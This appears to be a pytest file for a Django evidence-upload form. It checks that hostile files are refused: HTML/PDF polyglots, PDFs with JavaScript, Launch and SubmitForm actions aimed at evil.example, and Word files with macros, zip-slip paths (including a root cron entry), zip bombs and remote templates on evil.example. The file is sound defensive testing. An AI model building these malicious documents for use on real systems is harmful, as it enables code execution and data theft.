"""Hostile evidence files, sent the way a browser sends them: through the application form and
through the tracking page's reply to a request for more information.

Every file is made here, by the test: polyglots (a PDF or an image that is also a web page),
PDFs with scripts, automatic actions, attached files or a password, images that are
decompression bombs or too large, a HEIC holding HTML, Word documents with macros, unsafe
paths (zip slip), linked templates or a zip bomb, and files renamed to look acceptable. Each
is refused with a Vietnamese message naming the file, and nothing is kept: no row, nothing in
the private storage. Real PDFs (reportlab, pypdf), photos and Word documents still pass.
"""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from reportlab.pdfgen import canvas

from forms_app.files import DOCX_TYPE
from forms_app.models import Application, EvidenceFile
from tests.forms_app import conftest as forms_app_fixtures
from tests.forms_app.conftest import TOKEN, form_data, make_pdf

# The application fixtures of tests/forms_app, for the tests here.
pages = forms_app_fixtures.pages
commune = forms_app_fixtures.commune
make_application = forms_app_fixtures.make_application

HEIC = (Path(__file__).parents[1] / "forms_app" / "files" / "goc-hoc-tap.heic").read_bytes()
SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"


# --- PDF ----------------------------------------------------------------------------------------


def reportlab_pdf():
    buffer = io.BytesIO()
    sheet = canvas.Canvas(buffer)
    sheet.drawString(72, 720, "Giay khen hoc sinh gioi nam hoc 2025-2026")
    sheet.linkURL("https://khuyenhoc.example.org/", (72, 700, 200, 712))
    sheet.showPage()
    sheet.save()
    return buffer.getvalue()


def pypdf_pdf(password=None):
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def js_in_object_stream():
    """The JavaScript action packed in a compressed object stream (with a cross-reference
    stream, as writers that pack objects do), where no search of the bytes can see it."""
    packed = zlib.compress(b"5 0 " + JS_ACTION)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
        % (len(packed), packed),
    ]
    content, offsets = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = [b"\x00\x00\x00\x00\x00\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00" for offset in offsets]
    rows += [
        b"\x02" + (4).to_bytes(4, "big") + b"\x00",
        b"\x01" + len(content).to_bytes(4, "big") + b"\x00",
    ]
    table = zlib.compress(b"".join(rows))
    xref = len(content)
    content += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, xref)
    )
    return content


JS_ACTION = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"

PDF_GOOD = {
    "reportlab.pdf": reportlab_pdf(),
    "pypdf.pdf": pypdf_pdf(),
    # Opening at the first page is an action too, but not one that runs anything.
    "mo-trang-dau.pdf": make_pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
}

PDF_HOSTILE = {
    # Polyglots: a browser that sniffs takes them for web pages.
    "html-truoc.pdf": (SCRIPT + b"\n" + make_pdf(), "mã trang web (HTML)"),
    "html-sau.pdf": (make_pdf() + SCRIPT, "mã trang web (HTML)"),
    "html-sau-eof.pdf": (make_pdf() + b"<!-- -->", "mã trang web (HTML)"),
    "html-trong-chu-thich.pdf": (
        make_pdf(header=b"%PDF-1.7\n%" + SCRIPT + b"\n"),
        "mã trang web (HTML)",
    ),
    # A PDF that is also a zip (or anything else) after its end.
    "pdf-zip.pdf": (make_pdf() + b"PK\x03\x04\x14\x00" + b"\x00" * 40, "sau phần cuối"),
    "pdf-khong-o-dau.pdf": (b"GIF89a" + make_pdf(), "không phải là tệp PDF"),
    # Scripts and automatic actions.
    "openaction-js.pdf": (make_pdf(catalog=b"/OpenAction " + JS_ACTION), "mã lệnh"),
    "openaction-js-ma-hoa-ten.pdf": (
        make_pdf(catalog=b"/OpenAction<</S/Java#53cript/J#53(app.alert\\(1\\))>>"),
        "mã lệnh",
    ),
    "names-javascript.pdf": (
        make_pdf(
            catalog=b"/Names<</JavaScript 4 0 R>>", extra=[b"<</Names[(a) 5 0 R]>>", JS_ACTION]
        ),
        "mã lệnh",
    ),
    "page-aa.pdf": (make_pdf(page=b"/AA<</O " + JS_ACTION + b">>"), "mã lệnh"),
    "launch.pdf": (make_pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "mã lệnh"),
    "submitform.pdf": (
        make_pdf(catalog=b"/OpenAction<</S/SubmitForm/F(https://evil.example/)>>"),
        "mã lệnh",
    ),
    "gotor.pdf": (
        make_pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)>>"),
        "mã lệnh",
    ),
    "xfa.pdf": (make_pdf(catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>", extra=[b"<<>>"]), "mã lệnh"),
    "tep-dinh-kem.pdf": (
        make_pdf(
            catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
            extra=[
                b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
                b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
            ],
        ),
        "tệp đính kèm",
    ),
    "annot-file.pdf": (
        make_pdf(
            page=b"/Annots[4 0 R]",
            extra=[
                b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>",
                b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
                b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
            ],
        ),
        "tệp đính kèm",
    ),
    "js-trong-object-stream.pdf": (js_in_object_stream(), "mã lệnh"),
    "lien-ket-js.pdf": (
        make_pdf(
            page=b"/Annots[4 0 R]",
            extra=[
                b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                b"/A<</S/URI/URI(javascript:alert\\(1\\))>>>>"
            ],
        ),
        "mã lệnh",
    ),
    "mat-khau.pdf": (pypdf_pdf(password="bi-mat"), "mật khẩu"),
    "hong.pdf": (b"%PDF-1.7\n1 0 obj<</Type/Catalog>>\n%%EOF\n", "bị hỏng"),
    "khong-eof.pdf": (make_pdf()[:-7], "không phải là tệp PDF"),
}


# --- Images -------------------------------------------------------------------------------------


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_size(width, height):
    """A black-and-white PNG of any size, written row by row: a 20000×20000 one is a few
    dozen KB on disk and 400 megapixels once decoded."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", data)
        + png_chunk(b"IEND", b"")
    )


def image(fmt="JPEG", size=(64, 48), **options):
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buffer, fmt, **options)
    return buffer.getvalue()


def png_with_text(text):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return image("PNG", pnginfo=info)


BOMB = png_of_size(20_000, 20_000)

IMAGE_GOOD = {
    "anh.jpg": image("JPEG"),
    "anh-lon.jpeg": image("JPEG", size=(4000, 3000)),
    "anh.png": image("PNG"),
    "goc-hoc-tap.heic": HEIC,
}

IMAGE_HOSTILE = {
    "bom-giai-nen.png": (BOMB, "megapixel"),
    # Above Pillow's own warning (89 megapixels) but below its error: the warning counts.
    "canh-bao-pillow.png": (png_of_size(13_000, 13_000), "megapixel"),
    # Below anything Pillow minds, above the site's limit.
    "qua-50-megapixel.png": (png_of_size(8_000, 7_000), "megapixel"),
    "cat-ngang.png": (image("PNG", size=(300, 300))[:-200], "bị hỏng"),
    "cat-ngang.jpg": (image("JPEG", size=(300, 300))[:600], "bị hỏng"),
    "jpeg-chu-thich-html.jpg": (image("JPEG", comment=SCRIPT), "mã trang web (HTML)"),
    "jpeg-duoi-html.jpg": (image("JPEG") + SCRIPT, "mã trang web (HTML)"),
    "png-text-html.png": (png_with_text("<script>alert(1)</script>"), "mã trang web (HTML)"),
    "gif-doi-ten.jpg": (image("GIF"), "không phải là tệp PDF"),
    "webp-doi-ten.png": (image("WEBP"), "không phải là tệp PDF"),
    "svg-doi-ten.png": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "mã trang web (HTML)",
    ),
    "heic-chua-html.heic": (HEIC[:32] + SCRIPT, "mã trang web (HTML)"),
    "heic-ftyp-html.heic": (
        struct.pack(">I", 24) + b"ftypheic\x00\x00\x00\x00mif1heic" + SCRIPT,
        "mã trang web (HTML)",
    ),
    # Boxes as HEIF wants them, but nothing libheif can decode.
    "heic-rong.heic": (
        struct.pack(">I", 24)
        + b"ftypheic\x00\x00\x00\x00mif1heic"
        + struct.pack(">I", 20)
        + b"meta"
        + b"\x00" * 12
        + struct.pack(">I", 40)
        + b"mdat"
        + b"\x01" * 32,
        "bị hỏng",
    ),
}


# --- DOCX ---------------------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    "</Types>"
)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Báo cáo kết quả học tập của gia đình</w:t></w:r></w:p></w:body>"
    "</w:document>"
)


def document_rels(*relations):
    rows = "".join(
        f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
        for i, (kind, target) in enumerate(relations, 10)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rows}</Relationships>"
    )


def make_docx(extra=(), main=WORD_MAIN, rels=None, compression=zipfile.ZIP_DEFLATED):
    """A Word document as Word writes one (content types, relationships, the body), with
    ``extra`` parts as (name, bytes) added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main))
        archive.writestr("_rels/.rels", PACKAGE_RELS)
        archive.writestr("word/document.xml", DOCUMENT)
        if rels:
            archive.writestr("word/_rels/document.xml.rels", rels)
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def encrypted_entry_docx():
    """A part marked as encrypted (zipfile cannot write one: set the flag in both headers)."""
    content = bytearray(make_docx(extra=[("word/media/anh.png", b"\x00" * 64)]))
    name = b"word/media/anh.png"
    for signature, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = content.find(signature)
        while start >= 0:
            if content[start + name_at : start + name_at + len(name)] == name:
                content[start + flag_at] |= 0x1
            start = content.find(signature, start + 1)
    return bytes(content)


def duplicate_entry_docx():
    buffer = io.BytesIO(make_docx())
    with pytest.warns(UserWarning), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def zip_of(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx():
    return zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(main="application/xml"),
            "xl/workbook.xml": "<workbook/>",
        }
    )


DOCX_GOOD = {
    "bao-cao.docx": make_docx(),
    "bao-cao-khong-nen.docx": make_docx(compression=zipfile.ZIP_STORED),
    "co-lien-ket.docx": make_docx(rels=document_rels(("hyperlink", "https://example.org/"))),
}

DOCX_HOSTILE = {
    "macro.docm": (
        make_docx(
            extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)], main=MACRO_MAIN
        ),
        "macro",
    ),
    "macro-doi-ten.docx": (
        make_docx(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60)]),
        "macro",
    ),
    "kieu-macro.docx": (make_docx(main=MACRO_MAIN), "macro"),
    "activex.docx": (make_docx(extra=[("word/activeX/activeX1.xml", b"<ax:ocx/>")]), "macro"),
    "zip-slip.docx": (
        make_docx(extra=[("../../../../tmp/evil.sh", b"#!/bin/sh\n")]),
        "không phải tệp Word hợp lệ",
    ),
    "zip-slip-giua.docx": (
        make_docx(extra=[("word/../../evil.sh", b"#!/bin/sh\n")]),
        "không phải tệp Word hợp lệ",
    ),
    "duong-dan-tuyet-doi.docx": (
        make_docx(extra=[("/etc/cron.d/evil", b"* * * * * root sh\n")]),
        "không phải tệp Word hợp lệ",
    ),
    "dau-gach-nguoc.docx": (
        make_docx(extra=[("..\\..\\evil.bat", b"echo\n")]),
        "không phải tệp Word hợp lệ",
    ),
    "o-dia-windows.docx": (
        make_docx(extra=[("C:/Windows/evil.bat", b"echo\n")]),
        "không phải tệp Word hợp lệ",
    ),
    "trung-ten.docx": (duplicate_entry_docx(), "không phải tệp Word hợp lệ"),
    "ma-hoa.docx": (encrypted_entry_docx(), "không phải tệp Word hợp lệ"),
    "bom-zip.docx": (
        make_docx(extra=[("word/media/image1.png", b"\x00" * (60 * 1024 * 1024))]),
        "giải nén",
    ),
    "mau-tu-xa.docx": (
        make_docx(rels=document_rels(("attachedTemplate", "https://evil.example/mau.dotm"))),
        "bên ngoài",
    ),
    "doi-tuong-tu-xa.docx": (
        make_docx(
            rels=document_rels(
                ("oleObject", "mhtml:https://evil.example/!x-usc:https://evil.example")
            )
        ),
        "bên ngoài",
    ),
    "xlsx-doi-ten.docx": (xlsx(), "không phải là tệp PDF"),
    "zip-thuong.docx": (zip_of({"a.txt": b"hello"}), "không phải là tệp PDF"),
    # Other files renamed to look acceptable.
    "setup.pdf": (b"MZ\x90\x00" + b"\x00" * 200, "không phải là tệp PDF"),
    "trang-web.pdf": (SCRIPT, "mã trang web (HTML)"),
    "rong.pdf": (b"", "không phải là tệp PDF"),
}

HOSTILE = {**PDF_HOSTILE, **IMAGE_HOSTILE, **DOCX_HOSTILE}
GOOD = {**PDF_GOOD, **IMAGE_GOOD, **DOCX_GOOD}
FILES_TRIED = len(HOSTILE) + len(GOOD)


def soup(response):
    return BeautifulSoup(response.content, "html.parser")


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def private_files():
    """Everything in the private storage (where evidence files go), by path."""
    root = Path(settings.PRIVATE_MEDIA_ROOT)
    return {path for path in root.rglob("*") if path.is_file()}


@pytest.fixture
def registration(pages):
    return pages["dang-ky-gia-dinh-hoc-tap"]


@pytest.fixture
def awaiting_reply(make_application):
    """An application whose reviewers asked for more information: the reply takes files."""
    return make_application(status="info_requested")


def reply(name, content):
    return {
        "message": "Xin gửi thêm tệp minh chứng",
        "email": "",
        "hamlet": "Tổ 4",
        "evidence": [upload(name, content)],
    }


@pytest.mark.parametrize("name", HOSTILE)
def test_application_form_refuses(client, registration, commune, name):
    content, expected = HOSTILE[name]
    before = private_files()
    data = form_data(registration, commune, evidence=[upload(name, content)])
    response = client.post(registration.url, data)
    assert response.status_code == 400
    summary = soup(response).select_one("#error-summary").text
    assert name in summary and expected in summary
    # The entries are kept for the next try; the file is not.
    assert soup(response).select_one("#id_hamlet")["value"] == "Tổ dân phố 3"
    assert not EvidenceFile.objects.exists() and not Application.objects.exists()
    assert private_files() == before


@pytest.mark.parametrize("name", HOSTILE)
def test_reply_form_refuses(client, awaiting_reply, name):
    content, expected = HOSTILE[name]
    before = private_files()
    response = client.post(awaiting_reply.tracking_path(), reply(name, content))
    assert response.status_code == 400
    errors = soup(response).select_one("#reply-errors").text
    assert name in errors and expected in errors
    awaiting_reply.refresh_from_db()
    assert awaiting_reply.status == "info_requested"
    assert [f.original_name for f in awaiting_reply.files.all()] == ["minh-chung.pdf"]
    assert private_files() == before


@pytest.mark.parametrize("name", GOOD)
def test_good_files_pass_both_forms(client, registration, commune, awaiting_reply, name):
    content = GOOD[name]
    response = client.post(
        registration.url, form_data(registration, commune, evidence=[upload(name, content)])
    )
    assert response.status_code == 302
    stored = Application.objects.get(submission_token=TOKEN).files.get()
    assert stored.original_name == name and stored.size == len(content)
    with stored.file.open("rb") as kept:
        assert kept.read() == content
    response = client.post(awaiting_reply.tracking_path(), reply(name, content))
    assert response.status_code == 302
    assert awaiting_reply.files.filter(original_name=name).exists()


@pytest.mark.parametrize(
    "name, content, stored_as, content_type",
    [
        ("hoso.html", PDF_GOOD["reportlab.pdf"], "hoso.pdf", "application/pdf"),
        ("anh.pdf", IMAGE_GOOD["anh.png"], "anh.png", "image/png"),
        ("anh-chup", IMAGE_GOOD["anh.jpg"], "anh-chup.jpg", "image/jpeg"),
        (
            "bao-cao.docm",
            DOCX_GOOD["bao-cao.docx"],
            "bao-cao.docx",
            DOCX_TYPE,
        ),
    ],
)
def test_stored_and_served_as_the_type_found(
    client, registration, commune, name, content, stored_as, content_type
):
    response = client.post(
        registration.url, form_data(registration, commune, evidence=[upload(name, content)])
    )
    assert response.status_code == 302
    application = Application.objects.get(submission_token=TOKEN)
    item = application.files.get()
    assert (item.original_name, item.content_type) == (stored_as, content_type)
    assert item.file.name.endswith("." + stored_as.rsplit(".", 1)[1])
    response = client.get(f"/ho-so/tep/{item.pk}/?t={application.secret}")
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{stored_as}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == content


def test_a_row_from_before_is_served_under_its_type(client, awaiting_reply):
    """Files kept before names were corrected on upload are served with the right extension,
    and a type the checks never give is served as plain bytes."""
    item = awaiting_reply.files.get()
    item.original_name = "hoso.html"
    item.save()
    response = client.get(f"/ho-so/tep/{item.pk}/?t={awaiting_reply.secret}")
    assert response["Content-Disposition"] == 'attachment; filename="hoso.pdf"'
    item.content_type = "text/html"
    item.save()
    response = client.get(f"/ho-so/tep/{item.pk}/?t={awaiting_reply.secret}")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="hoso.html"'


def test_the_bomb_is_refused_before_any_pixel_is_decoded(monkeypatch):
    from PIL import ImageFile

    from forms_app.files import Refused, identify

    def no_decoding(self):
        raise AssertionError("the image was decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    assert len(BOMB) < 50_000
    with pytest.raises(Refused) as refusal:
        identify(upload("bom.png", BOMB))
    assert refusal.value.code == "image_too_large"


def test_figures():
    """The README's Security section gives these counts: change it with them."""
    assert (len(PDF_HOSTILE), len(IMAGE_HOSTILE), len(DOCX_HOSTILE), len(GOOD)) == (21, 14, 19, 10)
